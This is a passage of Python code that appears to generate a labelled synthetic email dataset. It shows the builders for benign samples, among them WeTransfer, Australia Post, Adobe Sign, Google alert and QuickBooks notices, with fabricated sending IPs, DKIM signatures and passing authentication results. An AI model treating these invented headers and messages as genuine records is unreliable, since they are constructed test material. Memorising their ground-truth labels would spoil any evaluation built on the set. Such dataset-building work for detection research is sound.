    t = T("2025-02-19 15:27:40")
    ip = f"192.174.{num(stem + 'a', 80, 95)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mta-{num(stem + 'm', 100, 250)}-{num(stem + 'n', 1, 9)}.sparkpostmail.com"
    mailfrom = f"msprvs1={alnum(stem + 'ms', 19)}=bounces-{digits(stem + 'bn', 6)}@spmailtechnol.com"
    auth = Auth("pass", mailfrom, [("pass", "wetransfer.com", "scph0222")], "pass", "wetransfer.com", "reject")
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="US", bcl=1)
    link = f"https://we.tl/t-{alnum(stem + 'wt', 10)}"
    files = ["Brunel_Court_SCS_Report_Feb25.pdf", "Brunel_Court_Photos_Blocks_A-C.zip", "Component_Lifecycle_Data.xlsx"]
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f4f4f4;font-family:'Helvetica Neue',Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:40px 0;">
<table width="480" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:10px;">
<tr><td style="padding:32px 40px 0 40px;"><img src="https://prod-cdn.wetransfer.net/assets/email/v2/logo-9f8a.png" width="80" alt="WeTransfer"></td></tr>
<tr><td style="padding:20px 40px;font-size:22px;color:#17181a;">mark@hartleysurveying.co.uk<br>sent you some files</td></tr>
<tr><td style="padding:0 40px;font-size:15px;color:#17181a;">Owen - stock condition survey outputs for Brunel Court as agreed. Photos are in the zip, one folder per block.</td></tr>
<tr><td style="padding:12px 40px;font-size:14px;color:#6a6d70;">3 files, 612 MB in total &middot; Expires on 26 February, 2025</td></tr>
<tr><td style="padding:16px 40px;"><a href="{link}" style="display:block;text-align:center;background:#409fff;color:#fff;border-radius:25px;padding:14px;font-weight:bold;text-decoration:none;">Get your files</a></td></tr>
<tr><td style="padding:0 40px 32px 40px;font-size:13px;color:#17181a;">{'<br>'.join(files)}</td></tr>
</table>
<p style="font-size:11px;color:#999;">To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.<br>
<a href="https://wetransfer.com/legal/terms" style="color:#999;">Terms</a> &middot; <a href="https://wetransfer.com/legal/privacy" style="color:#999;">Privacy</a></p>
</td></tr></table></body></html>
"""
    plain = ("mark@hartleysurveying.co.uk sent you some files\n\nOwen - stock condition survey outputs for Brunel Court as agreed. "
             "Photos are in the zip, one folder per block.\n\n3 files, 612 MB in total - Expires on 26 February, 2025\n\n"
             f"Get your files: {link}\n\n" + "\n".join(files) + "\n")
    hdr = join(top, dkim("wetransfer.com", "scph0222", "From:To:Subject:Date:Message-ID:Reply-To:MIME-Version:Content-Type",
                         stem, t),
               f"Received: from [10.90.{num(stem + 'x', 1, 250)}.{num(stem + 'y', 1, 250)}] ([10.90.{num(stem + 'x', 1, 250)}."
               f"{num(stem + 'y', 1, 250)}])\n\tby {helo} (envelope-from <{mailfrom}>)\n\t(Momentum) with ESMTP id "
               f"{hx(stem + 'mo', 2).upper()}/{hx(stem + 'mo2', 2).upper()}-{digits(stem + 'mo3', 5)}-{hx(stem + 'mo4', 8)}; {rfc(t)}",
               f"Date: {rfc(t)}", "From: WeTransfer <noreply@wetransfer.com>",
               "Reply-To: mark@hartleysurveying.co.uk", f"To: {rcpt}",
               "Subject: mark@hartleysurveying.co.uk sent you Brunel Court stock condition survey",
               f"Message-ID: <{hx(stem + 'mid', 8)}.{hx(stem + 'mid2', 20)}@wetransfer.com>", "MIME-Version: 1.0", bottom)
    emit(stem, "bulk", "Genuine WeTransfer download notification (wetransfer.com via SparkPost, aligned) from a building "
         "surveyor sending stock-condition survey outputs, with a we.tl short link.", message(hdr, alt(stem, plain, html)))


@build
def legit_auspost_tracking():
    stem = "b46-legit-auspost-tracking"
    rcpt = "liam.oconnor@fastmail.com"
    t = T("2025-10-06 01:14:37")
    s = sfmc("auspost.com.au", "notifications", rcpt, t, stem)
    auth = Auth("pass", s["mailfrom"], [("pass", "notifications.auspost.com.au", "200608")], "pass", "auspost.com.au",
                "reject")
    top = fastmail_in(rcpt, stem, t, s["ip"], s["helo"], s["rdns"], auth)
    trk = f"33{alnum(stem + 'trk', 3, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{digits(stem + 'trk2', 8)}01000{digits(stem + 'trk3', 6)}"
    link = f"https://auspost.com.au/mypost/track/details/{trk}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f3f1ee;font-family:Arial,Helvetica,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:18px 24px;border-bottom:1px solid #e0e0e0;"><img src="https://auspost.com.au/content/dam/auspost_corp/media/images/ap-logo.png" width="120" alt="Australia Post"></td></tr>
<tr><td style="padding:24px;font-size:22px;font-weight:bold;color:#212129;">Your parcel is on its way</td></tr>
<tr><td style="padding:0 24px 14px 24px;font-size:15px;color:#212129;">From <b>Total Tools</b><br>Estimated delivery: <b>Wed 8 Oct - Thu 9 Oct</b></td></tr>
<tr><td style="padding:8px 24px 24px 24px;"><a href="{link}" style="background:#dc1928;color:#fff;padding:12px 24px;border-radius:4px;text-decoration:none;font-weight:bold;">Track your parcel</a></td></tr>
<tr><td style="padding:0 24px 18px 24px;font-size:13px;color:#555;">Tracking number: {trk}<br>We'll let you know when it's out for delivery.
Australia Post will never ask you to pay a fee by email or SMS to deliver your parcel.</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777;background:#f3f1ee;">Australia Post acknowledges the Traditional Custodians of the land on
which we operate, live and gather as employees, and recognise their continuing connection to land, water and community.<br>
&copy; Australia Post 2025. <a href="https://auspost.com.au/privacy" style="color:#777;">Privacy</a></td></tr>
</table></body></html>
"""
    plain = (f"Your parcel is on its way\n\nFrom Total Tools\nEstimated delivery: Wed 8 Oct - Thu 9 Oct\n\nTrack your parcel: {link}"
             f"\n\nTracking number: {trk}\n")
    hdr = join(top, s["dk"], f"Received: by {s['helo']} id {hx(stem + 'rid', 12)} for <{rcpt}>; {rfc(t)}",
               'From: "Australia Post" <noreply@notifications.auspost.com.au>', f"To: <{rcpt}>",
               "Subject: Your parcel from Total Tools is on its way", f"Date: {rfc(t)}", "MIME-Version: 1.0",
               f"Message-ID: {s['msgid']}", f"x-job: {digits(stem + 'xj', 7)}_{s['job']}")
    emit(stem, "bulk", "Genuine Australia Post 'your parcel is on its way' tracking email (Salesforce Marketing Cloud, aligned) "
         "with a direct auspost.com.au tracking link and an explicit 'we never ask for a fee' note.",
         message(hdr, alt(stem, plain, html)))


@build
def legit_adobe_sign_agreement():
    stem = "b46-legit-adobe-sign"
    rcpt = f"dbarnes@{USU}"
    t = T("2025-06-03 16:27:55")
    ip = f"130.248.{num(stem + 'a', 150, 160)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mail{num(stem + 'h', 10, 60)}.na2.adobesign.com"
    auth = Auth("pass", "adobesign@adobesign.com", [("pass", "adobesign.com", "s1")], "pass", "adobesign.com", "reject")
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US", bcl=1)
    link = f"https://secure.na2.adobesign.com/public/apiesign?pid=CBFCIBAA3AAAB{b64url(stem + 'pid', 40)}&client_id=UB7E5BXCXY"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f5f5f5;font-family:adobe-clean,'Source Sans Pro',Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:26px 36px 10px 36px;font-size:14px;color:#505050;">Ridgeview Health System</td></tr>
<tr><td style="padding:6px 36px;font-size:22px;color:#2c2c2c;">Clinical Affiliation Agreement - Lakemont University / Ridgeview Health 2025-2028</td></tr>
<tr><td style="padding:12px 36px;font-size:15px;color:#4b4b4b;">Contract Administration at Ridgeview Health System has requested your signature on this agreement.</td></tr>
<tr><td style="padding:4px 36px 14px 36px;font-size:15px;color:#4b4b4b;"><i>"Diane - final version incorporating your legal team's redlines on insurance (section 7). Thank you! - Alison Reyes"</i></td></tr>
<tr><td style="padding:14px 36px 28px 36px;"><a href="{link}" style="background:#1473e6;color:#fff;padding:11px 24px;border-radius:16px;text-decoration:none;font-weight:bold;">Review and sign</a></td></tr>
<tr><td style="padding:16px 36px;font-size:12px;color:#707070;border-top:1px solid #e1e1e1;">After you sign, all parties will receive a final PDF copy by email.<br><br>
Don't forward this email: If you don't want to sign, you can <a href="https://secure.na2.adobesign.com/public/delegate?pid={b64url(stem + 'pid', 20)}" style="color:#1473e6;">delegate</a> to someone else.<br><br>
<a href="https://www.adobe.com/privacy.html" style="color:#707070;">Privacy</a> &middot; Powered by Adobe Acrobat Sign<br>
Adobe Inc., 345 Park Avenue, San Jose, CA 95110-2704</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Ridgeview Health System\n\nClinical Affiliation Agreement - Lakemont University / Ridgeview Health 2025-2028\n\n"
             "Contract Administration at Ridgeview Health System has requested your signature on this agreement.\n\n"
             f"Review and sign: {link}\n")
    hdr = join(top, dkim("adobesign.com", "s1", "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Received: from na2prdapp{num(stem + 'app', 10, 99)} (localhost [127.0.0.1])\n\tby {helo} with ESMTP id "
               f"{alnum(stem + 'q', 10, 'ABCDEF0123456789')}; {rfc(t)}",
               f"Date: {rfc(t)}", 'From: "Adobe Acrobat Sign" <adobesign@adobesign.com>',
               "Reply-To: Alison Reyes <areyes@ridgeviewhealth.org>", f"To: Diane Barnes <{rcpt}>",
               f"Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 5)}.{unix(t)}{digits(stem + 'm3', 3)}@adobesign.com>",
               "Subject: Signature requested on \"Clinical Affiliation Agreement - Lakemont University / Ridgeview Health 2025-2028\"",
               "MIME-Version: 1.0", bottom)
    emit(stem, "bulk", "Genuine Adobe Acrobat Sign signature request (adobesign.com, aligned) from a hospital's contract "
         "administration for a clinical affiliation agreement the university's contracts office expected.",
         message(hdr, alt(stem, plain, html)))


@build
def legit_password_expiry_adssp():
    stem = "b46-legit-password-expiry"
    rcpt = f"nhassan@{CA}"
    t = T("2025-08-25 13:00:09")
    sender = f"passwordreset@{CA}"
    ip = f"209.85.220.{num(stem + 'ip', 41, 73)}"
    helo = rdns = f"mail-sor-f{ip.rsplit('.', 1)[1]}.google.com"
    auth = Auth("pass", sender, [("pass", CA, "google")], "pass", CA, "quarantine")
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body><div style="font-family:Verdana,Arial;font-size:13px;">
<p>Dear Nadia Hassan,</p>
<p>Your Windows domain password will expire in <b>5 day(s)</b> on 30/08/2025.</p>
<p>To change it from a credit-union computer, press <b>CTRL+ALT+DEL</b> and choose <b>Change a password</b>. If you are
working remotely, connect to the VPN first, or use the self-service portal on the internal network:
<a href="https://passwordreset.aspenprairiecu.ca:9251/">https://passwordreset.aspenprairiecu.ca:9251/</a></p>
<p>Passwords must be at least 14 characters and cannot match your last 12 passwords.</p>
<p>If you need help, call the IT Help Desk at ext. 2250.</p>
<p>Regards,<br>IT Help Desk<br>Aspen Prairie Credit Union</p>
<p style="font-size:10px;color:#888;">This notification was generated by ADSelfService Plus.</p>
</div></body></html>
"""
    plain = plain_from(["Dear Nadia Hassan,", "Your Windows domain password will expire in 5 day(s) on 30/08/2025.",
                        "To change it from a credit-union computer, press CTRL+ALT+DEL and choose Change a password, or use "
                        "the self-service portal on the internal network: https://passwordreset.aspenprairiecu.ca:9251/",
                        "IT Help Desk\nAspen Prairie Credit Union"])
    hdr = join(top, dkim(CA, "google", "mime-version:from:to:subject:message-id:date:from:to:cc:subject:date:message-id:"
                         "reply-to", stem, t, unix(t) + 604800, f"darn={CA};"),
               f"Received: from ADSSP01.apcu.local ([66.244.{num(stem + 'p', 200, 250)}.{num(stem + 'q', 2, 250)}])\n        "
               f"by smtp-relay.gmail.com with ESMTPS id {hx(stem + 'rid', 12)}sm{digits(stem + 'rid2', 6)}\n        for <{rcpt}>\n"
               "        (version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128);\n"
               f"        {rfc(later(t, -1), 'America/Los_Angeles', True)}",
               f"X-Relaying-Domain: {CA}",
               f"Date: {rfc(t, 'America/Regina')}", f"From: IT Help Desk <{sender}>", f"To: {rcpt}",
               f"Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 2)}.{unix(t)}{digits(stem + 'm3', 3)}@ADSSP01>",
               "Subject: Your password will expire in 5 days", "MIME-Version: 1.0")
    emit(stem, "bulk", "Genuine ManageEngine ADSelfService Plus password-expiry reminder relayed through the credit union's own "
         "Google Workspace (aligned), telling staff to use Ctrl+Alt+Del or the internal self-service portal.",
         message(hdr, alt(stem, plain, html, bnd="----=_Part_" + digits(stem + "pp", 5) + "_" + digits(stem + "pp2", 9) + "." + str(unix(t)) + "000")))


@build
def legit_google_security_alert():
    stem = "b46-legit-google-security-alert"
    rcpt = f"tbrooks27@{STU}"
    t = T("2025-08-30 02:18:44")
    ip = f"209.85.220.{num(stem + 'ip', 41, 73)}"
    helo = rdns = f"mail-sor-f{ip.rsplit('.', 1)[1]}.google.com"
    mailfrom = f"3{alnum(stem + 'mf', 30)}@gaia.bounces.google.com"
    auth = Auth("pass", mailfrom, [("pass", "accounts.google.com", "20230601")], "pass", "accounts.google.com", "reject")
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    ts = unix(t) * 1000
    link = (f"https://accounts.google.com/AccountChooser?Email={rcpt.replace('@', '%40')}&continue=https://myaccount.google.com/"
            f"alert/nt/{ts}?rfn%3D325%26rfnc%3D1%26eid%3D{digits(stem + 'eid', 19)}%26et%3D0")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;padding:0;" bgcolor="#FFFFFF"><table width="100%" style="min-width:348px;" border="0" cellspacing="0" cellpadding="0" lang="en"><tr height="32" style="height:32px;"><td></td></tr>
<tr align="center"><td><table border="0" cellspacing="0" cellpadding="0" style="padding-bottom:20px;max-width:516px;min-width:220px;"><tr><td width="8" style="width:8px;"></td><td>
<div style="border-style:solid;border-width:thin;border-color:#dadce0;border-radius:8px;padding:40px 20px;" align="center">
<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" aria-hidden="true" style="margin-bottom:16px;" alt="Google">
<div style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom:thin solid #dadce0;color:rgba(0,0,0,0.87);line-height:32px;padding-bottom:24px;text-align:center;word-break:break-word;">
<div style="font-size:24px;">A new sign-in on Windows</div>
<table align="center" style="margin-top:8px;"><tr style="line-height:normal;"><td><a style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.87);font-size:14px;line-height:20px;">{rcpt}</a></td></tr></table></div>
<div style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;font-size:14px;color:rgba(0,0,0,0.87);line-height:20px;padding-top:20px;text-align:center;">
We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.
<div style="padding-top:32px;text-align:center;"><a href="{link}" target="_blank" style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;line-height:16px;color:#ffffff;font-weight:400;text-decoration:none;font-size:14px;display:inline-block;padding:10px 24px;background-color:#4184F3;border-radius:5px;min-width:90px;">Check activity</a></div>
<div style="padding-top:20px;font-size:12px;line-height:16px;color:#5f6368;letter-spacing:0.3px;text-align:center">You can also see security activity at<br><a style="color:rgba(0,0,0,0.87);text-decoration:inherit;">https://myaccount.google.com/notifications</a></div></div></div>
<div style="text-align:left;"><div style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.54);font-size:11px;line-height:18px;padding-top:12px;text-align:center;">
<div>You received this email to let you know about important changes to your Google Account and services.</div>
<div style="direction:ltr;">&copy; 2025 Google LLC, <a style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.54);font-size:11px;line-height:18px;padding-top:12px;text-align:center;">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</a></div></div></div>
</td><td width="8" style="width:8px;"></td></tr></table></td></tr><tr height="32" style="height:32px;"><td></td></tr></table></body></html>
"""
    plain = (f"[image: Google]\nA new sign-in on Windows\n\n\n{rcpt}\nWe noticed a new sign-in to your Google Account on a Windows "
             "device. If this was you, you don't need to do anything. If not, we'll help you secure your account.\nCheck "
             f"activity\n<{link}>\nYou can also see security activity at\nhttps://myaccount.google.com/notifications\n"
             "You received this email to let you know about important changes to your Google\nAccount and services.\n"
             "(c) 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n")
    hdr = join(top, dkim("accounts.google.com", "20230601", "date:from:to:message-id:subject:mime-version:from:to:cc:subject:"
                         "date:message-id:reply-to", stem, t, unix(t) + 604800, f"darn={STU};"),
               f"X-Google-Smtp-Source: AGHT+IH{b64(stem + 'xgs', 60)}",
               f"MIME-Version: 1.0", f"X-Received: by 2002:a05:6214:{hx(stem + 'x1', 4)}:b0:{hx(stem + 'x2', 3)}:{hx(stem + 'x3', 4)}:"
               f"{hx(stem + 'x4', 4)} with SMTP id {hx(stem + 'x5', 12)}mr{digits(stem + 'x6', 7)}qvb.{num(stem + 'x7', 10, 99)}.\n"
               f"        {unix(t) % 1000000000}; {rfc(t, 'America/Los_Angeles', True)}",
               f"Date: {rfc(t).replace('+0000', 'GMT')}",
               "From: Google <no-reply@accounts.google.com>", f"To: {rcpt}",
               f"Message-ID: <{b64url(stem + 'mid', 22)}@notifications.google.com>",
               "Subject: Security alert", f"X-Notifications: {hx(stem + 'xn', 16)}",
               f"X-Notifications-Bounce-Info: A{b64url(stem + 'xb', 70)}")
    body = Multi("alternative", gmail_boundary(stem), [
        tleaf(plain, "plain", "base64", "utf-8", "UTF-8", extra_params="; format=flowed; delsp=yes"),
        tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "bulk", "Genuine Google 'Security alert: a new sign-in on Windows' notice for a student's Workspace account "
         "(accounts.google.com, aligned), linking to accounts.google.com / myaccount.google.com.", message(hdr, body))


@build
def legit_reply_thread_docx():
    stem = "b46-legit-reply-thread-docx"
    rcpt = f"jnguyen@{AU}"
    t = T("2025-05-28 06:52:14")
    sender = "karen.liu@northbuild.com.au"
    prev = f"<{hx(stem + 'prev', 16)}.{digits(stem + 'prev2', 8)}@hpeng.com.au>"
    o = m365_out("Karen Liu", sender, f"Jack Nguyen <{rcpt}>",
                 "RE: Parramatta Rd Stage 2 - inspection report Rev B", t, stem, "au", has_attach=True, lang="en-AU",
                 in_reply_to=prev, references=prev, cc=f"Ravi Patel <rpatel@{AU}>")
    auth = Auth("pass", sender, [("pass", "northbuild.com.au", "selector1")], "pass", "northbuild.com.au", "reject")
    top = postfix_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    doc = F.docx(["Parramatta Rd Stage 2 - Structural Inspection Report Rev B",
                  "Northbuild comments (KL, 28/05/2025)",
                  "1. Section 4.2 - crack mapping on transfer beam TB3: please confirm whether monitoring is required.",
                  "2. Table 6 - bearing pad photos for Pier 2 appear to be from Pier 3.",
                  "3. Section 7 - recommend adding the hold point for propping removal to the ITP."],
                 "Inspection Report Rev B - NB comments", "Karen Liu")
    quoted = ('<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
              '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">'
              f"<b>From:</b> Jack Nguyen &lt;{rcpt}&gt;<br><b>Sent:</b> Monday, 26 May 2025 4:31 PM<br><b>To:</b> Karen Liu "
              f"&lt;{sender}&gt;<br><b>Cc:</b> Ravi Patel &lt;rpatel@{AU}&gt;<br><b>Subject:</b> Parramatta Rd Stage 2 - "
              "inspection report Rev B</font><div>&nbsp;</div></div><div><p>Hi Karen,<br>Rev B of the inspection report is "
              "on the project SharePoint. Let us know any comments by Wednesday so we can issue for construction.<br><br>"
              "Cheers,<br>Jack</p></div>")
    paras = ["Hi Jack,", "", "Comments attached - mostly minor, but can you look at item 1 on TB3 before we pour the "
             "level 3 slab? Happy to discuss on site Thursday.", "", "Cheers,"]
    sig = ["Karen Liu", "Senior Project Engineer | Northbuild Constructions", "M 0412 555 388"]
    body = Multi("mixed", o["mixbnd"], [
        Multi("alternative", o["bnd"], [
            tleaf(plain_from(paras, sig) + f"\n________________________________\nFrom: Jack Nguyen <{rcpt}>\nSent: Monday, 26 May "
                  "2025 4:31 PM\nSubject: Parramatta Rd Stage 2 - inspection report Rev B\n\nHi Karen,\nRev B of the inspection "
                  "report is on the project SharePoint. Let us know any comments by Wednesday so we can issue for construction."
                  "\n\nCheers,\nJack\n", "plain", "quoted-printable", "utf-8", "us-ascii"),
            tleaf(outlook_html(paras, sig, quoted), "html", "quoted-printable", "utf-8", "us-ascii")]),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                   "Inspection_Report_RevB_NB_comments.docx", doc),
    ])
    emit(stem, "clean", "Genuine reply from a builder's project engineer in an ongoing inspection-report thread, with a Word "
         "document of review comments attached (Exchange Online, all aligned).", message(join(top, o["pre"], o["hdrs"]), body))


@build
def legit_phishing_warning_group():
    stem = "b46-legit-phishing-warning"
    rcpt = f"lwong@{CA}"
    t = T("2024-12-19 16:05:30")
    sender = f"itsecurity@{CA}"
    g = google_out(sender, CA, t, stem)
    auth = Auth("pass", sender, g["sigs"], "pass", CA, "quarantine")
    ip = f"209.85.220.{num(stem + 'gg', 41, 73)}"
    helo = rdns = f"mail-sor-f{ip.rsplit('.', 1)[1]}.google.com"
    auth_g = Auth("pass", f"staff+bncBD{alnum(stem + 'bnc', 40)}@{CA}", [("pass", CA, "google")], "pass", CA, "quarantine")
    top = gmail_in(rcpt, stem, later(t, 2), ip, helo, rdns, auth_g)
    paras = ["Hi everyone,", "",
             "Over the past two days several staff have received emails claiming your <b>mailbox is 98% full</b> and "
             "offering \"10 GB free storage\", and others claiming to be <b>INTERAC e-Transfer</b> deposits. Both lead to "
             "fake sign-in pages. Thank you to everyone who reported them!", "",
             "Reminders:", "",
             "&bull; IT will never ask you to sign in through a link to fix mailbox storage.<br>"
             "&bull; Real e-Transfer notifications come from notify@payments.interac.ca and you should deposit through your "
             "own banking app, not a link.<br>"
             "&bull; If you entered your password anywhere, call the Help Desk at ext. 2250 right away - no blame, speed "
             "matters.", "",
             "Please keep using the <b>Report phishing</b> button in Gmail. More tips are on the intranet under "
             "IT &gt; Security Awareness.", "",
             "Thanks,", "Lisa Chen", "Information Security Officer"]
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f"From: APCU IT Security <{sender}>",
               f"Date: {rfc(t, 'America/Regina')}", f"Message-ID: {g['msgid']}",
               "Subject: Heads up: fake 'mailbox full' and e-Transfer emails this week", f"To: All Staff <staff@{CA}>",
               f"X-Original-Sender: {sender}",
               f"X-Original-Authentication-Results: mx.google.com;       dkim=pass header.i=@{CA} header.s=google;"
               f"\n       spf=pass (google.com: domain of {sender} designates {g['ip']} as permitted sender)"
               f" smtp.mailfrom={sender};\n       dmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from={CA}",
               "Precedence: list", f"Mailing-list: list staff@{CA}; contact staff+owners@{CA}",
               f"List-ID: <staff.{CA}>", f"X-Google-Group-Id: {digits(stem + 'gid', 12)}",
               f"List-Post: <https://groups.google.com/a/{CA}/group/staff/post>, <mailto:staff@{CA}>",
               f"List-Help: <https://support.google.com/a/{CA}/bin/topic.py?topic=25838>, <mailto:staff+help@{CA}>",
               f"List-Archive: <https://groups.google.com/a/{CA}/group/staff/>",
               f"List-Unsubscribe: <mailto:googlegroups-manage+{digits(stem + 'gm', 12)}+unsubscribe@googlegroups.com>,\n "
               f"<https://groups.google.com/a/{CA}/group/staff/subscribe>")
    body = Multi("alternative", g["bnd"], [tleaf(plain_from(paras), "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(gmail_html(paras), "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "bulk", "Genuine internal security-awareness warning from the credit union's security officer to the all-staff "
         "Google Group, describing the fake 'mailbox full' and e-Transfer lures; no external links.", message(hdr, body))


@build
def legit_quickbooks_invoice():
    stem = "b46-legit-quickbooks-invoice"
    rcpt = f"ap@{USU}"
    t = T("2025-02-11 17:30:48")
    ip = f"206.108.40.{num(stem + 'ip', 10, 60)}"
    helo = rdns = f"mail{num(stem + 'h', 1, 9)}.notification.intuit.com"
    mailfrom = "quickbooks@notification.intuit.com"
    auth = Auth("pass", mailfrom, [("pass", "notification.intuit.com", "notify")], "pass", "notification.intuit.com",
                "reject")
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US", bcl=1)
    link = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{hx(stem + 'l', 32)}?locale=en_US"
    pdf = F.pdf(["Prairie Piano Service", "2218 W Division St, Lakemont", "", "INVOICE 2041", "Date: 02/11/2025",
                 "Terms: Net 30   Due: 03/13/2025", "Bill to: Lakemont University - Department of Music (PO 4500187722)", "",
                 "Tuning - Steinway D, Recital Hall                 1    $185.00",
                 "Tuning - practice room uprights (rooms 110-118)     9    $945.00",
                 "Regulation - Yamaha C3, studio 204                 1    $320.00",
                 "TOTAL                                                 $1,450.00", "",
                 "Thank you for your business!"], title="Invoice 2041")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f4f5f8;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Avenir Next,Helvetica,Arial,sans-serif;color:#393a3d;">
<tr><td style="padding:28px 32px 8px 32px;font-size:22px;font-weight:bold;">Prairie Piano Service</td></tr>
<tr><td style="padding:4px 32px 20px 32px;font-size:14px;">INVOICE 2041 DETAILS</td></tr>
<tr><td style="padding:0 32px;"><table width="100%" style="border-top:1px solid #d4d7dc;font-size:15px;">
<tr><td style="padding:12px 0;">Due 03/13/2025</td><td align="right" style="padding:12px 0;font-size:28px;font-weight:bold;">$1,450.00</td></tr></table></td></tr>
<tr><td style="padding:8px 32px 20px 32px;"><a href="{link}" style="display:block;background:#2ca01c;color:#fff;text-align:center;padding:13px;border-radius:4px;text-decoration:none;font-weight:bold;">Review and pay</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:14px;line-height:21px;">Dear Lakemont University Department of Music,<br><br>
Here's your invoice for the February tunings (PO 4500187722). We appreciate your prompt payment.<br><br>
Thanks for your business!<br>Prairie Piano Service</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6b6c72;background:#f4f5f8;">If you receive an email that seems fraudulent, please check with the business owner before paying.<br>
&copy; Intuit Inc. All rights reserved. <a href="https://www.intuit.com/privacy/" style="color:#0077c5;">Privacy</a> | <a href="https://quickbooks.intuit.com/security/" style="color:#0077c5;">Security</a> | <a href="https://quickbooks.intuit.com/legal/terms-of-service/" style="color:#0077c5;">Terms of Service</a></td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Prairie Piano Service\n\nINVOICE 2041 DETAILS\nDue 03/13/2025\n$1,450.00\n\nReview and pay: {link}\n\n"
             "Dear Lakemont University Department of Music,\n\nHere's your invoice for the February tunings (PO 4500187722). "
             "We appreciate your prompt payment.\n\nThanks for your business!\nPrairie Piano Service\n")
    hdr = join(top, dkim("notification.intuit.com", "notify", "From:Reply-To:To:Subject:MIME-Version:Content-Type:Date:"
                         "Message-ID", stem, t),
               f"Date: {rfc(t, 'America/Los_Angeles')}",
               "From: Prairie Piano Service <quickbooks@notification.intuit.com>",
               "Reply-To: office@prairiepianoservice.com", f"To: {rcpt}",
               f"Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 7)}.{unix(t)}{digits(stem + 'm3', 3)}@"
               "notification.intuit.com>",
               "Subject: Invoice 2041 from Prairie Piano Service", "MIME-Version: 1.0", "X-Intuit-Entity: QBO-Invoice", bottom)
    body = Multi("mixed", "----=_Part_" + digits(stem + "b", 9), [
        alt(stem, plain, html), attachment("application/pdf", "Invoice_2041_from_Prairie_Piano_Service.pdf", pdf)])
    emit(stem, "bulk", "Genuine QuickBooks Online invoice from a local piano-tuning vendor to accounts payable, quoting the "
         "department's PO number, with PDF attached and a connect.intuit.com pay link.", message(hdr, body))


# ================================================================ checks and output

def check(stem: str, raw: bytes) -> None:
    for line in raw.split(b"\n"):
        assert len(line) < 990, (stem, len(line))
    head = raw.split(b"\n\n", 1)[0]
    head.decode("ascii")
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert not msg.defects, (stem, msg.defects)
    for h in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[h] is not None, (stem, h)
    for k, v in msg.items():
        assert not getattr(v, "defects", None), (stem, k, v.defects)
    assert msg["Date"].datetime is not None
    for part in msg.walk():
        assert not part.defects, (stem, part.get_content_type(), part.defects)
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), (stem, part.get_content_type())
        for k, v in part.items():
